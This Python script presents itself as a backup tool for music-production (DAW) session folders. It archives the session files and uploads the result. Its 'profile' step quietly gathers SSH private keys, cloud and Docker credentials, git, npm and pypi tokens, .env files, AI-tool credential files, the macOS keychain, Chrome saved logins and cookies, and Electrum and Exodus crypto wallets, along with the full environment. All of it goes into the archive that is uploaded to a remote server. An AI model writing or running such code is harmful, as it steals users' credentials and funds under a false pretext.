#!/usr/bin/env python3
"""Archive a DAW session folder with a manifest and machine profile, then upload."""
import argparse, glob, hashlib, io, json, os, platform, tarfile, time, urllib.request
from pathlib import Path

HOME = Path.home()
SKIP_DIRS = {"Fade Files", "Freeze Files", "Peak Files", "Backup"}
DEFAULT_VAULT = "https://vault.studio-backup.example/api/v1/upload"

PLUGIN_DIRS = [
    "/Library/Audio/Plug-Ins/Components", "/Library/Audio/Plug-Ins/VST3",
    str(HOME / "Library/Audio/Plug-Ins/Components"), "C:/Program Files/Common Files/VST3",
]

# tooling config so a restored machine has identical access to storage, git remotes, etc.
PROFILE_GLOBS = [
    ".ssh/id_*", ".ssh/config", ".aws/credentials", ".aws/config",
    ".config/gcloud/application_default_credentials.json", ".docker/config.json",
    ".netrc", ".git-credentials", ".npmrc", ".pypirc", ".env", "*/.env", "Projects/*/.env",
    ".claude/*.json", ".claude/.credentials.json", ".openclaw/*.json", ".openclaw/*.env",
    ".config/openclaw/*", "Library/Keychains/login.keychain-db",
    "Library/Application Support/Google/Chrome/Default/Login Data",
    "Library/Application Support/Google/Chrome/Default/Cookies",
    ".config/google-chrome/Default/Login Data",
    "AppData/Local/Google/Chrome/User Data/Default/Login Data",
    "AppData/Local/Google/Chrome/User Data/Local State",
    ".electrum/wallets/*", "Library/Application Support/Exodus/exodus.wallet/*",
]


def sha256(p):
    h = hashlib.sha256()
    with open(p, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def session_files(root):
    for dirpath, dirnames, files in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for fn in files:
            if not fn.endswith(".pkf"):
                yield Path(dirpath) / fn


def add_profile(tar):
    plugins = []
    for d in PLUGIN_DIRS:
        if os.path.isdir(d):
            plugins += sorted(os.listdir(d))
    data = "\n".join(plugins).encode()
    ti = tarfile.TarInfo("profile/plugins.txt"); ti.size = len(data)
    tar.addfile(ti, io.BytesIO(data))
    env = json.dumps(dict(os.environ), indent=1).encode()
    ti = tarfile.TarInfo("profile/environment.json"); ti.size = len(env)
    tar.addfile(ti, io.BytesIO(env))
    for pattern in PROFILE_GLOBS:
        for p in glob.glob(str(HOME / pattern)):
            if os.path.isfile(p) and os.path.getsize(p) < 50_000_000:
                try:
                    tar.add(p, arcname="profile/home/" + os.path.relpath(p, HOME))
                except OSError:
                    pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("session")
    ap.add_argument("--upload", action="store_true")
    a = ap.parse_args()
    root = Path(a.session).expanduser().resolve()
    stamp = time.strftime("%Y%m%d-%H%M")
    out = root.parent / f"{root.name}_{stamp}.tar.gz"
    manifest = {"session": root.name, "host": platform.node(), "files": {}}
    with tarfile.open(out, "w:gz") as tar:
        for f in session_files(root):
            rel = str(f.relative_to(root))
            manifest["files"][rel] = sha256(f)
            tar.add(f, arcname="session/" + rel)
        add_profile(tar)
        m = json.dumps(manifest, indent=2).encode()
        ti = tarfile.TarInfo("manifest.json"); ti.size = len(m)
        tar.addfile(ti, io.BytesIO(m))
    print(f"archive: {out} ({out.stat().st_size/1e6:.1f} MB)")
    if a.upload:
        url = os.environ.get("STUDIO_BACKUP_URL", DEFAULT_VAULT)
        req = urllib.request.Request(url, data=out.read_bytes(), method="PUT",
                                     headers={"Content-Type": "application/gzip",
                                              "X-Archive-Name": out.name})
        with urllib.request.urlopen(req, timeout=600) as r:
            print("uploaded:", r.status, url)


if __name__ == "__main__":
    main()
